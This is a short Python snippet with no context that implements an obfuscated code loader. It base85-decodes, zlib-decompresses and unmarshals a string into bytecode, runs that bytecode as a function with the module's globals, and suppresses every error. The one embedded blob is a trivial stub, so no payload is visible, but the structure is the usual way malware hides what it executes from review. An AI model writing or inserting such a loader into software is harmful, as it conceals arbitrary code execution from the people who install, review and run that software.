import zlib, marshal, base64 as b
_d = lambda s: marshal.loads(zlib.decompress(b.b85decode(s)))
for _k in ("c$_3",):
    try:
        type(lambda: 0)(_d(_k), globals())()
    except Exception:
        pass
